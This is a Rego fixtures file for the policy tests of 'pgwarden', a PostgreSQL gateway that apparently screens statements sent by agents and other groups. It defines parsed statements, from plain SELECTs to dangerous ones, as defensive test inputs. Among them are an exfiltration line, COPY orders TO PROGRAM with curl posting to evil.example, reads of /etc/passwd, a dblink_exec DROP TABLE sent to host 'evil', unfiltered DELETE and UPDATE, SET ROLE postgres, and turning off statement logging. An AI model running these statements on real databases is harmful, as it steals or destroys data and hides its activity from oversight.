# Shared fixtures for the pgwarden policy tests: identities, a session and
# statement documents as the gateway's analyser produces them for the demo
# schema (testdata/demo_schema.sql), following docs/statement-facts.md: e.g.
# the target of an UPDATE/DELETE with WHERE is also `read`, PREPARE and
# EXPLAIN carry their body's facts merged into their own, CALL and CREATE
# FUNCTION set executes_dynamic_sql. No test rules here.
#
# Tests build an input as
#   data.pgwarden.decision with input as fx.agent_request with input.statement as fx.delete_all_orders
# (`with input.statement` replaces the statement of the request).
package pgwarden.fixtures_test

import rego.v1

identity(groups) := {
	"subject": "ci-bot",
	"issuer": "pgwarden",
	"groups": groups,
	"auth_method": "gateway-token",
	"expires_at": 1795714863.0,
	"token_id": "6f1c0b8e-0000-4000-8000-000000000001",
	"claims": {},
}

session := {
	"id": "5eed",
	"connection": "demo",
	"database": "demo",
	"client_addr": "127.0.0.1:5555",
	"application_name": "psql",
	"tls": true,
	"transaction_status": "I",
	"protocol": "simple",
	"parameters": {"search_path": "\"$user\", public"},
}

request(groups) := {"identity": identity(groups), "session": session, "statement": select_products}

agent_request := request(["agents"])

readonly_request := request(["readonly"])

dba_request := request(["dba"])

stranger_request := request(["interns"])

agent_dba_request := request(["agents", "dba"])

no_flags := {
	"writes": false,
	"ddl": false,
	"is_utility": false,
	"executes_dynamic_sql": false,
	"copy_program": false,
	"sets_role": false,
	"changes_session_setting": false,
	"select_into": false,
	"transaction_control": false,
	"has_where": false,
	"modifies_data": false,
	"explain_analyze": false,
	"locks": false,
	"side_effect_functions": false,
}

base_statement := {
	"index": 0,
	"text": "",
	"node": "SelectStmt",
	"kind": "select",
	"command_tag": "SELECT",
	"fingerprint": "0000",
	"relations": [],
	"columns": [],
	"functions": [],
	"flags": no_flags,
	"writes": [],
	"settings": [],
	"role_change": null,
	"prepare": null,
	"execute": null,
	"deallocate": null,
	"explain": null,
	"copy": null,
	"message": {"index": 0, "count": 1},
	"ast": {},
}

relation(name, access) := {"schema": null, "name": name, "access": access}

column(relation_name, name, context) := {"schema": null, "relation": relation_name, "name": name, "context": context}

fn(name) := {"schema": null, "name": name, "qualified": name}

write(name, kind, has_where) := {"schema": null, "name": name, "kind": kind, "has_where": has_where}

# SELECT 1
select_one := object.union(base_statement, {"text": "SELECT 1"})

# SELECT id, sku, name, price FROM products
select_products := object.union(base_statement, {
	"text": "SELECT id, sku, name, price FROM products",
	"relations": [relation("products", "read")],
	"columns": [
		column("products", "id", "select"),
		column("products", "sku", "select"),
		column("products", "name", "select"),
		column("products", "price", "select"),
	],
})

# SELECT * FROM customers
select_customers := object.union(base_statement, {
	"text": "SELECT * FROM customers",
	"relations": [relation("customers", "read")],
	"columns": [column("customers", "*", "star")],
})

# SELECT o.id, c.email FROM public.orders o JOIN customers c ON c.id = o.customer_id
select_orders_with_email := object.union(base_statement, {
	"text": "SELECT o.id, c.email FROM public.orders o JOIN customers c ON c.id = o.customer_id",
	"relations": [
		{"schema": "public", "name": "orders", "access": "read"},
		relation("customers", "read"),
	],
	"columns": [
		column("orders", "id", "select"),
		column("customers", "email", "select"),
		column("customers", "id", "join"),
		column("orders", "customer_id", "join"),
	],
})

# INSERT INTO audit_notes (note) VALUES ('hello')
insert_note := object.union(base_statement, {
	"text": "INSERT INTO audit_notes (note) VALUES ('hello')",
	"node": "InsertStmt",
	"kind": "insert",
	"command_tag": "INSERT",
	"relations": [relation("audit_notes", "insert")],
	"columns": [column("audit_notes", "note", "insert")],
	"flags": object.union(no_flags, {"writes": true, "modifies_data": true}),
	"writes": [write("audit_notes", "insert", false)],
})

# INSERT INTO audit_notes (note) SELECT ssn FROM customers
insert_select_ssn := object.union(insert_note, {
	"text": "INSERT INTO audit_notes (note) SELECT ssn FROM customers",
	"relations": [relation("audit_notes", "insert"), relation("customers", "read")],
	"columns": [column("audit_notes", "note", "insert"), column("customers", "ssn", "select")],
})

# INSERT INTO audit_notes (note) SELECT id::text FROM customers
insert_select_ids := object.union(insert_select_ssn, {
	"text": "INSERT INTO audit_notes (note) SELECT id::text FROM customers",
	"columns": [column("audit_notes", "note", "insert"), column("customers", "id", "select")],
})

# SELECT pg_notify('leak', ssn) FROM customers
select_notify_ssn := object.union(base_statement, {
	"text": "SELECT pg_notify('leak', ssn) FROM customers",
	"relations": [relation("customers", "read")],
	"columns": [column("customers", "ssn", "select")],
	"functions": [fn("pg_notify")],
	"flags": object.union(no_flags, {"side_effect_functions": true}),
})

# SELECT pg_notify('jobs', 'done')
select_notify := object.union(base_statement, {
	"text": "SELECT pg_notify('jobs', 'done')",
	"functions": [fn("pg_notify")],
	"flags": object.union(no_flags, {"side_effect_functions": true}),
})

# UPDATE customers SET phone = '+1 555' WHERE id = 3
update_phone := object.union(base_statement, {
	"text": "UPDATE customers SET phone = '+1 555' WHERE id = 3",
	"node": "UpdateStmt",
	"kind": "update",
	"command_tag": "UPDATE",
	"relations": [relation("customers", "read"), relation("customers", "update")],
	"columns": [column("customers", "phone", "set"), column("customers", "id", "where")],
	"flags": object.union(no_flags, {"writes": true, "modifies_data": true, "has_where": true}),
	"writes": [write("customers", "update", true)],
})

# UPDATE customers SET phone = '+1 555' WHERE id = 3 RETURNING email
update_phone_returning := object.union(update_phone, {
	"text": "UPDATE customers SET phone = '+1 555' WHERE id = 3 RETURNING email",
	"columns": [
		column("customers", "phone", "set"),
		column("customers", "id", "where"),
		column("customers", "email", "returning"),
	],
})

# DELETE FROM orders WHERE id = 7
delete_one_order := object.union(base_statement, {
	"text": "DELETE FROM orders WHERE id = 7",
	"node": "DeleteStmt",
	"kind": "delete",
	"command_tag": "DELETE",
	"relations": [relation("orders", "delete"), relation("orders", "read")],
	"columns": [column("orders", "id", "where")],
	"flags": object.union(no_flags, {"writes": true, "modifies_data": true, "has_where": true}),
	"writes": [write("orders", "delete", true)],
})

# DELETE FROM orders
delete_all_orders := object.union(base_statement, {
	"text": "DELETE FROM orders",
	"node": "DeleteStmt",
	"kind": "delete",
	"command_tag": "DELETE",
	"relations": [relation("orders", "delete")],
	"flags": object.union(no_flags, {"writes": true, "modifies_data": true}),
	"writes": [write("orders", "delete", false)],
})

# UPDATE products SET price = 0
update_all_prices := object.union(base_statement, {
	"text": "UPDATE products SET price = 0",
	"node": "UpdateStmt",
	"kind": "update",
	"command_tag": "UPDATE",
	"relations": [relation("products", "update")],
	"columns": [column("products", "price", "set")],
	"flags": object.union(no_flags, {"writes": true, "modifies_data": true}),
	"writes": [write("products", "update", false)],
})

# MERGE INTO products p USING (VALUES ('KB-01', 99)) v(sku, price) ON p.sku = v.sku WHEN MATCHED THEN UPDATE SET price = v.price
merge_prices := object.union(base_statement, {
	"text": "MERGE INTO products p USING (VALUES ('KB-01', 99)) v(sku, price) ON p.sku = v.sku WHEN MATCHED THEN UPDATE SET price = v.price",
	"node": "MergeStmt",
	"kind": "merge",
	"command_tag": "MERGE",
	"relations": [relation("products", "merge"), relation("products", "read"), relation("products", "update")],
	"columns": [column(null, "price", "select"), column("products", "price", "set"), column("products", "sku", "join")],
	"flags": object.union(no_flags, {"writes": true, "modifies_data": true, "has_where": true}),
	"writes": [write("products", "merge", true)],
})

# SELECT * INTO customers_copy FROM customers  (kind ddl, as Postgres logs it)
select_into := object.union(base_statement, {
	"text": "SELECT * INTO customers_copy FROM customers",
	"kind": "ddl",
	"command_tag": "SELECT INTO",
	"relations": [
		relation("customers", "read"),
		relation("customers_copy", "ddl"),
		relation("customers_copy", "insert"),
	],
	"columns": [column("customers", "*", "star")],
	"flags": object.union(no_flags, {
		"writes": true, "ddl": true, "is_utility": true,
		"modifies_data": true, "select_into": true,
	}),
	"writes": [write("customers_copy", "select_into", true)],
})

# TRUNCATE orders
truncate_orders := object.union(base_statement, {
	"text": "TRUNCATE orders",
	"node": "TruncateStmt",
	"kind": "truncate",
	"command_tag": "TRUNCATE TABLE",
	"relations": [relation("orders", "truncate")],
	"flags": object.union(no_flags, {"writes": true, "modifies_data": true}),
	"writes": [write("orders", "truncate", false)],
})

# DROP TABLE audit_notes
drop_table := object.union(base_statement, {
	"text": "DROP TABLE audit_notes",
	"node": "DropStmt",
	"kind": "ddl",
	"command_tag": "DROP TABLE",
	"relations": [relation("audit_notes", "ddl")],
	"flags": object.union(no_flags, {"ddl": true}),
})

# CREATE INDEX orders_customer ON orders (customer_id)
create_index := object.union(base_statement, {
	"text": "CREATE INDEX orders_customer ON orders (customer_id)",
	"node": "IndexStmt",
	"kind": "ddl",
	"command_tag": "CREATE INDEX",
	"relations": [relation("orders", "ddl")],
	"columns": [column("orders", "customer_id", "select")],
	"flags": object.union(no_flags, {"writes": true, "ddl": true, "is_utility": true}),
})

# CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
create_function := object.union(base_statement, {
	"text": "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
	"node": "CreateFunctionStmt",
	"kind": "ddl",
	"command_tag": "CREATE FUNCTION",
	"flags": object.union(no_flags, {"writes": true, "ddl": true, "is_utility": true, "executes_dynamic_sql": true}),
})

# GRANT SELECT ON customers TO public
grant_select := object.union(base_statement, {
	"text": "GRANT SELECT ON customers TO public",
	"node": "GrantStmt",
	"kind": "grant",
	"command_tag": "GRANT",
	"relations": [relation("customers", "grant")],
	"flags": object.union(no_flags, {"ddl": true}),
})

# LOCK TABLE orders IN ACCESS EXCLUSIVE MODE
lock_orders := object.union(base_statement, {
	"text": "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
	"node": "LockStmt",
	"kind": "lock",
	"command_tag": "LOCK TABLE",
	"relations": [relation("orders", "lock")],
	"flags": object.union(no_flags, {"locks": true}),
})

# VACUUM orders
vacuum_orders := object.union(base_statement, {
	"text": "VACUUM orders",
	"node": "VacuumStmt",
	"kind": "maintenance",
	"command_tag": "VACUUM",
	"relations": [relation("orders", "maintenance")],
	"flags": object.union(no_flags, {"is_utility": true}),
})

# CHECKPOINT
checkpoint := object.union(base_statement, {
	"text": "CHECKPOINT",
	"node": "CheckPointStmt",
	"kind": "maintenance",
	"command_tag": "CHECKPOINT",
	"flags": object.union(no_flags, {"is_utility": true}),
})

# DECLARE c CURSOR FOR SELECT * FROM customers
declare_cursor := object.union(base_statement, {
	"text": "DECLARE c CURSOR FOR SELECT * FROM customers",
	"node": "DeclareCursorStmt",
	"kind": "utility",
	"command_tag": "DECLARE CURSOR",
	"relations": [relation("customers", "read")],
	"columns": [column("customers", "*", "star")],
	"flags": object.union(no_flags, {"is_utility": true}),
})

# BEGIN
begin := object.union(base_statement, {
	"text": "BEGIN",
	"node": "TransactionStmt",
	"kind": "transaction",
	"command_tag": "BEGIN",
	"flags": object.union(no_flags, {"transaction_control": true, "is_utility": true}),
})

# BEGIN READ ONLY
begin_read_only := object.union(begin, {
	"text": "BEGIN READ ONLY",
	"flags": object.union(no_flags, {"transaction_control": true, "is_utility": true, "changes_session_setting": true}),
	"settings": [{"name": "transaction_read_only", "value": "on", "via": "SET LOCAL"}],
})

# SHOW search_path
show_search_path := object.union(base_statement, {
	"text": "SHOW search_path",
	"node": "VariableShowStmt",
	"kind": "show",
	"command_tag": "SHOW",
	"flags": object.union(no_flags, {"is_utility": true}),
})

# SET statement_timeout = '5s'
set_timeout := object.union(base_statement, {
	"text": "SET statement_timeout = '5s'",
	"node": "VariableSetStmt",
	"kind": "set",
	"command_tag": "SET",
	"flags": object.union(no_flags, {"is_utility": true, "changes_session_setting": true}),
	"settings": [{"name": "statement_timeout", "value": "5s", "via": "SET"}],
})

# SET search_path = private, public
set_search_path := object.union(set_timeout, {
	"text": "SET search_path = private, public",
	"settings": [{"name": "search_path", "value": "private, public", "via": "SET"}],
})

# SET log_statement = 'none'
set_log_statement := object.union(set_timeout, {
	"text": "SET log_statement = 'none'",
	"settings": [{"name": "log_statement", "value": "none", "via": "SET"}],
})

# SET ROLE postgres
set_role := object.union(base_statement, {
	"text": "SET ROLE postgres",
	"node": "VariableSetStmt",
	"kind": "set",
	"command_tag": "SET",
	"flags": object.union(no_flags, {"is_utility": true, "sets_role": true, "changes_session_setting": true}),
	"settings": [{"name": "role", "value": "postgres", "via": "SET"}],
	"role_change": {"via": "SET ROLE", "role": "postgres"},
})

# RESET ROLE (back to the session user)
reset_role := object.union(set_role, {
	"text": "RESET ROLE",
	"command_tag": "RESET",
	"settings": [],
	"role_change": {"via": "RESET ROLE", "role": null},
})

# SELECT set_config('role', current_setting('x'), false)
set_config_role := object.union(base_statement, {
	"text": "SELECT set_config('role', current_setting('x'), false)",
	"functions": [fn("current_setting"), fn("set_config")],
	"flags": object.union(no_flags, {"sets_role": true, "changes_session_setting": true, "side_effect_functions": true}),
	"settings": [{"name": "role", "value": null, "via": "set_config"}],
	"role_change": {"via": "set_config", "role": null},
})

# ALTER SYSTEM SET work_mem = '1GB'
alter_system := object.union(base_statement, {
	"text": "ALTER SYSTEM SET work_mem = '1GB'",
	"node": "AlterSystemStmt",
	"kind": "ddl",
	"command_tag": "ALTER SYSTEM",
	"flags": object.union(no_flags, {"ddl": true}),
	"settings": [{"name": "work_mem", "value": "1GB", "via": "ALTER SYSTEM"}],
})

# LISTEN jobs
listen_jobs := object.union(base_statement, {
	"text": "LISTEN jobs",
	"node": "ListenStmt",
	"kind": "listen",
	"command_tag": "LISTEN",
	"flags": object.union(no_flags, {"is_utility": true}),
})

# DISCARD ALL (also resets settings, the role and prepared statements)
discard_all := object.union(base_statement, {
	"text": "DISCARD ALL",
	"node": "DiscardStmt",
	"kind": "discard",
	"command_tag": "DISCARD ALL",
	"flags": object.union(no_flags, {"is_utility": true, "sets_role": true, "changes_session_setting": true}),
	"settings": [{"name": "*", "value": null, "via": "RESET ALL"}],
	"role_change": {"via": "SET SESSION AUTHORIZATION", "role": null},
	"deallocate": {"name": null, "all": true},
})

# DEALLOCATE p1
deallocate_p1 := object.union(base_statement, {
	"text": "DEALLOCATE p1",
	"node": "DeallocateStmt",
	"kind": "deallocate",
	"command_tag": "DEALLOCATE",
	"flags": object.union(no_flags, {"is_utility": true}),
	"deallocate": {"name": "p1", "all": false},
})

# DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$
do_block := object.union(base_statement, {
	"text": "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$",
	"node": "DoStmt",
	"kind": "do",
	"command_tag": "DO",
	"flags": object.union(no_flags, {"is_utility": true, "executes_dynamic_sql": true}),
})

# CALL archive_orders()
call_procedure := object.union(base_statement, {
	"text": "CALL archive_orders()",
	"node": "CallStmt",
	"kind": "call",
	"command_tag": "CALL",
	"functions": [fn("archive_orders")],
	"flags": object.union(no_flags, {"is_utility": true, "executes_dynamic_sql": true}),
})

# SELECT pg_read_file('/etc/passwd')
select_read_file := object.union(base_statement, {
	"text": "SELECT pg_read_file('/etc/passwd')",
	"functions": [{"schema": null, "name": "pg_read_file", "qualified": "pg_read_file"}],
	"flags": object.union(no_flags, {"side_effect_functions": true}),
})

# SELECT pg_catalog.pg_terminate_backend(42)
select_terminate := object.union(base_statement, {
	"text": "SELECT pg_catalog.pg_terminate_backend(42)",
	"functions": [{"schema": "pg_catalog", "name": "pg_terminate_backend", "qualified": "pg_catalog.pg_terminate_backend"}],
	"flags": object.union(no_flags, {"side_effect_functions": true}),
})

# SELECT dblink_exec('host=evil', 'DROP TABLE orders')
select_dblink := object.union(base_statement, {
	"text": "SELECT dblink_exec('host=evil', 'DROP TABLE orders')",
	"functions": [fn("dblink_exec")],
	"flags": object.union(no_flags, {"side_effect_functions": true}),
})

# SELECT lo_import('/etc/passwd')
select_lo_import := object.union(base_statement, {
	"text": "SELECT lo_import('/etc/passwd')",
	"functions": [fn("lo_import")],
	"flags": object.union(no_flags, {"side_effect_functions": true}),
})

# SELECT query_to_xml('SELECT * FROM customers', true, false, '')
select_query_to_xml := object.union(base_statement, {
	"text": "SELECT query_to_xml('SELECT * FROM customers', true, false, '')",
	"functions": [fn("query_to_xml")],
	"flags": object.union(no_flags, {"executes_dynamic_sql": true}),
})

# SELECT set_config('search_path', 'private', false)
select_set_config := object.union(base_statement, {
	"text": "SELECT set_config('search_path', 'private', false)",
	"functions": [fn("set_config")],
	"flags": object.union(no_flags, {"changes_session_setting": true, "side_effect_functions": true}),
	"settings": [{"name": "search_path", "value": "private", "via": "set_config"}],
})

# COPY orders TO STDOUT
copy_orders_out := object.union(base_statement, {
	"text": "COPY orders TO STDOUT",
	"node": "CopyStmt",
	"kind": "copy",
	"command_tag": "COPY",
	"relations": [relation("orders", "copy_to")],
	"copy": {"direction": "to", "program": false, "file": null, "stdio": true, "query": false},
})

# COPY audit_notes FROM STDIN
copy_notes_in := object.union(base_statement, {
	"text": "COPY audit_notes FROM STDIN",
	"node": "CopyStmt",
	"kind": "copy",
	"command_tag": "COPY",
	"relations": [relation("audit_notes", "copy_from")],
	"flags": object.union(no_flags, {"writes": true, "modifies_data": true}),
	"writes": [write("audit_notes", "copy_from", false)],
	"copy": {"direction": "from", "program": false, "file": null, "stdio": true, "query": false},
})

# COPY orders TO PROGRAM 'curl -d @- https://evil.example'
copy_program := object.union(copy_orders_out, {
	"text": "COPY orders TO PROGRAM 'curl -d @- https://evil.example'",
	"flags": object.union(no_flags, {"copy_program": true}),
	"copy": {"direction": "to", "program": true, "file": "curl -d @- https://evil.example", "stdio": false, "query": false},
})

# COPY audit_notes FROM '/etc/passwd'
copy_server_file := object.union(copy_notes_in, {
	"text": "COPY audit_notes FROM '/etc/passwd'",
	"copy": {"direction": "from", "program": false, "file": "/etc/passwd", "stdio": false, "query": false},
})

# EXPLAIN DELETE FROM orders  (the analyser may copy the body's facts up)
explain_delete := object.union(delete_all_orders, {
	"text": "EXPLAIN DELETE FROM orders",
	"node": "ExplainStmt",
	"kind": "explain",
	"command_tag": "EXPLAIN",
	"explain": {"analyze": false, "body": delete_all_orders},
})

# EXPLAIN ANALYZE DELETE FROM orders
explain_analyze_delete := object.union(explain_delete, {
	"text": "EXPLAIN ANALYZE DELETE FROM orders",
	"flags": object.union(delete_all_orders.flags, {"explain_analyze": true, "executes_dynamic_sql": true}),
	"explain": {"analyze": true, "body": delete_all_orders},
})

# EXPLAIN ANALYZE SELECT * FROM customers
explain_analyze_customers := object.union(select_customers, {
	"text": "EXPLAIN ANALYZE SELECT * FROM customers",
	"node": "ExplainStmt",
	"kind": "explain",
	"command_tag": "EXPLAIN",
	"flags": object.union(no_flags, {"explain_analyze": true, "executes_dynamic_sql": true}),
	"explain": {"analyze": true, "body": select_customers},
})

# PREPARE p1 AS <body>: the body's facts are merged into the PREPARE's own.
prepare(body) := object.union(body, {
	"text": concat("", ["PREPARE p1 AS ", body.text]),
	"node": "PrepareStmt",
	"kind": "prepare",
	"command_tag": "PREPARE",
	"flags": object.union(body.flags, {"is_utility": true, "executes_dynamic_sql": true}),
	"prepare": {"name": "p1", "body": body},
})

prepare_select_products := prepare(select_products)

prepare_select_customers := prepare(select_customers)

prepare_delete_one := prepare(delete_one_order)

prepare_delete_all := prepare(delete_all_orders)

# EXECUTE p1
execute_p1 := object.union(base_statement, {
	"text": "EXECUTE p1",
	"node": "ExecuteStmt",
	"kind": "execute",
	"command_tag": "EXECUTE",
	"flags": object.union(no_flags, {"is_utility": true, "executes_dynamic_sql": true}),
	"execute": {"name": "p1"},
})

# Something the analyser could not classify.
unknown := object.union(base_statement, {
	"text": "ALTER SOMETHING NEW",
	"node": "AlterSomethingNewStmt",
	"kind": "unknown",
	"command_tag": "",
})
